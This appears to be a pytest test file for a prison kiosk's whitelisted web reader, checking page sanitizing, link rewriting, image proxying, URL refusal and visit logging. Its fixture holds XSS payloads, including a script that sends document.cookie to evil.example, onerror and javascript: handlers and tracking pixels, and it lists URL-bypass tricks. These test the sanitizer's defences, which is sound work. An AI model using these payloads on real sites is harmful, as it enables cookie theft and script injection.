"""The reader in the portal: cleaned pages, rewritten links, proxied pictures, logged visits."""

from __future__ import annotations

import socket
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from conftest import START, Portal, World, fresh
from flask import Flask
from sqlalchemy import func, select
from upstream import PNG, Reply, Upstream, forbidden, loopback_connector, resolver_for, serve

from kiosk.clock import FrozenClock
from kiosk.models import SiteRequest, Staff, VisitVerdict, WhitelistVisit
from kiosk.routes.reader import ReaderNetwork
from kiosk.services import whitelist as service
from kiosk.services.audit import Actor

ACTOR = Actor.system("test")

HOSTILE = """<!doctype html>
<html><head><title>Cells &amp; life</title>
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/s.css">
<style>body { background: url(https://evil.example/bg.png) }</style>
<script>fetch('https://evil.example/?c=' + document.cookie)</script>
</head>
<body onload="steal()">
<h1 style="background:url(https://evil.example/x)">Cells</h1>
<p>Read <a href="/other.html">the next page</a>, or
<a href="https://evil.example/chat">a chat site</a>, or
<a href="javascript:alert(1)">this</a>, or
<a href="https://en.wikipedia.org/wiki/Cell">Wikipedia</a>.</p>
<img src="/cell.png" alt="A cell">
<img src="https://evil.example/pixel.gif" alt="tracker">
<img src="x" onerror="alert(1)">
<form action="https://evil.example/mail" method="post"><input name="to"><button>Send</button></form>
<iframe src="https://evil.example/"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<svg><a xlink:href="javascript:alert(1)"><text>svg</text></a></svg>
<math><mi xlink:href="javascript:alert(1)">m</mi></math>
<a href="jav&#x09;ascript:alert(1)">tabbed</a>
<noscript><img src="https://evil.example/ns.gif"></noscript>
</body></html>"""


@pytest.fixture
def upstream() -> Iterator[Upstream]:
    """The on-site mirror, on loopback."""
    with serve() as server:
        server.html("/index.html", HOSTILE)
        server.html("/other.html", "<h1>Other</h1>")
        server.routes["/cell.png"] = Reply(200, {"Content-Type": "image/png"}, PNG)
        yield server


@pytest.fixture
def connections() -> list[tuple[str, int]]:
    """Where the reader connected."""
    return []


@pytest.fixture
def reader(
    kiosk_app: Flask,
    world: World,
    db: Any,
    upstream: Upstream,
    connections: list[tuple[str, int]],
) -> str:
    """Approved rules for NRB: the mirror (explicit test-only rule) and Wikipedia; the base URL."""
    kiosk_app.extensions["whitelist_network"] = ReaderNetwork(
        resolver=resolver_for({"mirror.test": ["127.0.0.1"]}),
        connector=loopback_connector(connections),
        allow_loopback_mirrors=True,  # the explicit test-only permission
    )
    teacher = db.get(Staff, world.staff["teacher"].id)
    security = db.get(Staff, world.staff["security"].id)
    base = f"http://mirror.test:{upstream.port}/"
    for prefix, mirror in ((base, True), ("https://en.wikipedia.org/", False)):
        rule = service.propose_rule(
            db,
            actor=ACTOR,
            staff=teacher,
            prefix=prefix,
            title=f"Site {prefix}",
            facility_id=world.facility,
            on_site_mirror=mirror,
            now=START,
        )
        service.approve_rule(db, actor=ACTOR, staff=security, rule_id=rule.id, now=START)
    return base


@pytest.fixture
def inmate(portal: Portal, world: World) -> Portal:
    """Inmate 2026-0001 signed in on tablet A1."""
    person = world.inmates["2026-0001"]
    assert portal.sign_in(person.booking, person.pin).status_code == 302
    return portal


def _view(portal: Portal, url: str) -> Any:
    return portal.get(f"/reader/view?url={quote(url, safe='')}")


def _visits(db: Any) -> list[WhitelistVisit]:
    return list(fresh(db).scalars(select(WhitelistVisit).order_by(WhitelistVisit.id)))


def test_an_allowed_page_renders_cleaned_with_links_rewritten_through_the_reader(
    inmate: Portal, reader: str
) -> None:
    page = _view(inmate, reader + "index.html")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert "<title>Cells &amp; life" in html
    assert "the next page" in html
    assert f'href="/reader/view?url={reader}other.html"' in html
    assert 'href="/reader/view?url=https://en.wikipedia.org/wiki/Cell"' in html
    assert f'src="/reader/image?url={reader}cell.png"' in html
    assert "a chat site<small> (not available)</small>" in html
    assert "[tracker]" in html


def test_hostile_html_from_upstream_never_reaches_the_inmate_in_executable_form(
    inmate: Portal, reader: str
) -> None:
    html = _view(inmate, reader + "index.html").get_data(as_text=True).lower()
    article = html.split('<article class="reader-page"', 1)[1].split("</article>", 1)[0]
    for forbidden_text in (
        "<script",
        "<style",
        "<link",
        "<meta",
        "<base",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<svg",
        "<math",
        "onload",
        "onerror",
        "style=",
        "javascript:",
        "evil.example",
        "document.cookie",
    ):
        assert forbidden_text not in article, forbidden_text
    # Outside the article only the portal's own markup: nothing from upstream at all.
    assert "evil.example" not in html
    assert "<script" not in html


def test_every_visit_is_logged_with_inmate_url_and_verdict(
    inmate: Portal, reader: str, db: Any, world: World
) -> None:
    _view(inmate, reader + "index.html")
    (visit,) = _visits(db)
    assert visit.inmate_id == world.inmates["2026-0001"].id
    assert visit.verdict is VisitVerdict.ALLOWED
    assert visit.url == reader + "index.html"
    assert visit.host == "mirror.test"
    assert visit.terminal_id == world.terminals["a1"][0]


def test_a_refused_url_shows_a_clear_page_logs_the_refusal_and_touches_no_socket(
    inmate: Portal, reader: str, db: Any, monkeypatch: pytest.MonkeyPatch, kiosk_app: Flask
) -> None:
    kiosk_app.extensions["whitelist_network"] = ReaderNetwork(
        resolver=forbidden, connector=forbidden
    )
    for name in ("getaddrinfo", "gethostbyname", "create_connection"):
        monkeypatch.setattr(socket, name, forbidden)
    page = _view(inmate, "https://evil.example/chat")
    html = page.get_data(as_text=True)
    assert page.status_code == 403
    assert "This page is not available" in html
    assert "No rule allows this address." in html
    assert "Ask for this site" in html
    (visit,) = _visits(db)
    assert (visit.verdict, visit.reason, visit.host) == (
        VisitVerdict.REFUSED,
        "no_rule",
        "evil.example",
    )


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("https://en.wikipedia.org./wiki/Cell", "The host name ends with a dot."),
        ("https://en.wikipedia.org@evil.example/", "user name or an @"),
        ("http://127.0.0.1/", "numeric IP address"),
        ("ftp://en.wikipedia.org/", "Only http and https"),
        ("https://en.wikipedia.org/wiki/%2e%2e/x", "segments"),
    ],
)
def test_a_tricky_url_is_refused_with_its_reason(
    inmate: Portal, reader: str, url: str, reason: str
) -> None:
    page = _view(inmate, url)
    assert page.status_code == 403
    assert reason in page.get_data(as_text=True)


def test_a_redirect_off_the_whitelist_is_not_followed_in_the_portal(
    inmate: Portal, reader: str, upstream: Upstream, db: Any
) -> None:
    upstream.routes["/away"] = Reply(302, {"Location": "https://evil.example/"})
    page = _view(inmate, reader + "away")
    assert page.status_code == 403
    assert "somewhere the whitelist does not allow" in page.get_data(as_text=True)
    assert _visits(db)[0].reason == "redirect"


def test_a_huge_page_is_cut_off_with_a_clear_message(
    inmate: Portal, reader: str, upstream: Upstream, db: Any
) -> None:
    upstream.routes["/huge"] = Reply(
        200, {"Content-Type": "text/html", "Content-Length": str(10**9)}, b""
    )
    page = _view(inmate, reader + "huge")
    assert page.status_code == 422
    assert "larger than the reader accepts" in page.get_data(as_text=True)
    assert _visits(db)[0].verdict is VisitVerdict.FAILED


def test_a_missing_upstream_page_answers_404(inmate: Portal, reader: str) -> None:
    page = _view(inmate, reader + "nothing-here")
    assert page.status_code == 404
    assert "The page was not found." in page.get_data(as_text=True)


def test_pages_are_cached_for_the_configured_time(
    inmate: Portal,
    reader: str,
    upstream: Upstream,
    clock: FrozenClock,
    db: Any,
    kiosk_app: Flask,
) -> None:
    state = kiosk_app.extensions["kiosk"]
    state.settings = state.settings.replace(whitelist_cache_seconds=120)
    _view(inmate, reader + "other.html")
    _view(inmate, reader + "other.html")
    assert [r["path"] for r in upstream.requests] == ["/other.html"]
    clock.advance(seconds=121)
    _view(inmate, reader + "other.html")
    assert [r["path"] for r in upstream.requests] == ["/other.html", "/other.html"]
    assert len(_visits(db)) == 3


def test_a_whitelisted_picture_is_proxied_and_others_are_refused(
    inmate: Portal, reader: str
) -> None:
    picture = inmate.get(f"/reader/image?url={quote(reader + 'cell.png', safe='')}")
    assert picture.status_code == 200
    assert picture.data == PNG
    assert picture.headers["Content-Type"] == "image/png"
    assert picture.headers["X-Content-Type-Options"] == "nosniff"
    other = inmate.get(f"/reader/image?url={quote('https://evil.example/p.gif', safe='')}")
    assert other.status_code == 403


def test_a_page_is_not_served_as_a_picture(inmate: Portal, reader: str) -> None:
    response = inmate.get(f"/reader/image?url={quote(reader + 'other.html', safe='')}")
    assert response.status_code == 403


def test_an_inmate_of_another_facility_cannot_read_this_facilitys_sites(
    kiosk_app: Flask, world: World, reader: str
) -> None:
    other = Portal(kiosk_app, world.terminals["other"][1])
    person = world.inmates["2026-0009"]
    assert other.sign_in(person.booking, person.pin).status_code == 302
    assert _view(other, reader + "index.html").status_code == 403


def test_the_start_page_lists_the_approved_sites(inmate: Portal, reader: str) -> None:
    html = inmate.get("/reader/").get_data(as_text=True)
    assert f"Site {reader}" in html
    assert "Site https://en.wikipedia.org/" in html


def test_an_inmate_asks_for_a_site_once_even_when_submitting_twice(
    inmate: Portal, reader: str, db: Any
) -> None:
    data = {"url": "https://www.khanacademy.org/math/", "reason": "Algebra course"}
    first = inmate.post("/reader/ask", data, form_page="/reader/")
    second = inmate.post("/reader/ask", data, form_page="/reader/")
    assert (first.status_code, second.status_code) == (303, 303)
    assert fresh(db).scalar(select(func.count()).select_from(SiteRequest)) == 1
    assert "https://www.khanacademy.org/math/" in inmate.get("/reader/").get_data(as_text=True)


def test_a_request_without_a_reason_is_refused_on_the_same_page(
    inmate: Portal, reader: str, db: Any
) -> None:
    page = inmate.post("/reader/ask", {"url": "https://x.example.org/", "reason": ""}, "/reader/")
    assert page.status_code == 422
    assert "Say why you need it." in page.get_data(as_text=True)
    assert fresh(db).scalar(select(func.count()).select_from(SiteRequest)) == 0


def test_the_reader_tile_is_on_the_home_page(inmate: Portal) -> None:
    assert "/reader/" in inmate.get("/").get_data(as_text=True)


def test_an_address_typed_without_https_is_read_as_https(
    inmate: Portal, reader: str, db: Any
) -> None:
    page = _view(inmate, "evil.example/chat")
    assert page.status_code == 403
    assert _visits(db)[0].host == "evil.example"
